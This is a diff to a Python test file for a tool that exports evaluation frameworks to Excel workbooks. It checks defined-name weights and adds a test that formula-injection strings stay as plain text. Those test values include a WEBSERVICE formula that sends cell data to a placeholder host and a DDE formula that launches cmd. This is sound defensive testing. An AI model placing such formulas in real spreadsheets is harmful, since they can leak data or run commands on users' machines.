@@ -5,6 +5,7 @@ from __future__ import annotations
 import shutil
 import subprocess
 from dataclasses import replace
+from decimal import Decimal
 from pathlib import Path
 
 import openpyxl
@@ -50,9 +51,9 @@ def test_workbook_sheets_formulas_and_injection(tmp_path: Path) -> None:
     assert su.freeze_panes == "B2" and su.auto_filter.ref
     total = su.cell(2, 7).value
     assert total == "=SUM(D2:F2)"
-    assert su.cell(2, 5).value.startswith("=Share_3*(W_Q1*IF(ISNUMBER(Scores!U2)")
+    assert su.cell(2, 5).value.startswith("=Share_3*(W_18_Q1*IF(ISNUMBER(Scores!U2)")  # Q1 is the 18th criterion
     assert "_xlfn.MINIFS(Prices,Eligible,1)" in su.cell(2, 6).value
-    for name in ("W_Q1", "T_SVI1", "Share_2", "ScaleMin", "ScaleMax", "Prices", "Eligible"):
+    for name in ("W_18_Q1", "T_1_SVI1", "Share_2", "ScaleMin", "ScaleMax", "Prices", "Eligible"):
         assert name in wb.defined_names
     assert su._charts, "a native chart of totals"
     assert (su._charts[0].y_axis.scaling.min, su._charts[0].y_axis.scaling.max) == (0, 100)
@@ -154,3 +155,44 @@ def test_svi_export_commands(demo_file: Path, tmp_path: Path) -> None:
     if shutil.which("pdftotext"):
         text = pdftext(tmp_path / "r.pdf")
         assert "FINAL" in text and "DRAFT" not in text
+
+
+def test_codes_that_differ_only_in_punctuation_get_their_own_weights(tmp_path: Path) -> None:
+    """Q-1, Q.1 and Q 1 once became one defined name, so every formula used the last one's weight."""
+    ev = hostile_demo()
+    quality = [c for c in ev.framework.criteria if c.code in ("Q1", "Q2", "Q3")]
+    renamed = {quality[0].id: ("Q-1", "2"), quality[1].id: ("Q.1", "5"), quality[2].id: ("Q 1", "1")}
+    criteria = tuple(replace(c, code=renamed[c.id][0], weight=Decimal(renamed[c.id][1])) if c.id in renamed else c
+                     for c in ev.framework.criteria)
+    ev = replace(ev, framework=replace(ev.framework, criteria=criteria))
+    wb = openpyxl.load_workbook(write_workbook(ev, tmp_path / "e.xlsx", []))
+    names = [n for n in wb.defined_names if n.startswith("W_") and n.endswith("Q_1")]
+    assert len(names) == 3
+    weights = {wb.defined_names[n].attr_text: n for n in names}
+    assert len(weights) == 3  # three names, three cells
+    fws = wb["Framework"]
+    values = sorted(fws[wb.defined_names[n].attr_text.split("!")[1].replace("$", "")].value for n in names)
+    assert values == [1.0, 2.0, 5.0]
+    codes = [fws.cell(r, 1).value for r in range(2, fws.max_row) if fws.cell(r, 1).value in ("Q-1", "Q.1", "Q 1")]
+    assert sorted(codes) == ["Q 1", "Q-1", "Q.1"]
+
+
+def test_codes_section_names_and_scale_labels_are_text_too(tmp_path: Path) -> None:
+    """A template or JSON document can carry =WEBSERVICE(...) as a criterion code, a section name or a scale label."""
+    ev = demo_evaluation()
+    fw = ev.framework
+    evil = ['=WEBSERVICE("http://x/"&A1)', '=DDE("cmd","/c calc","x")', "+HYPERLINK(1)", "@NOW()"]
+    criteria = (replace(fw.criteria[0], code=evil[0]), *fw.criteria[1:])
+    sections = (replace(fw.sections[0], name=evil[1]), *fw.sections[1:])
+    levels = (replace(fw.scale.levels[0], label=evil[2]), *fw.scale.levels[1:])
+    scale = replace(fw.scale, name=evil[3], levels=levels)
+    ev = replace(ev, framework=replace(fw, criteria=criteria, sections=sections, scale=scale))
+    wb = openpyxl.load_workbook(write_workbook(ev, tmp_path / "e.xlsx", []))
+    seen = {}
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.value in evil:
+                    seen.setdefault(cell.value, []).append(cell)
+    assert set(seen) == set(evil)
+    assert all(c.data_type == "s" for cells in seen.values() for c in cells)
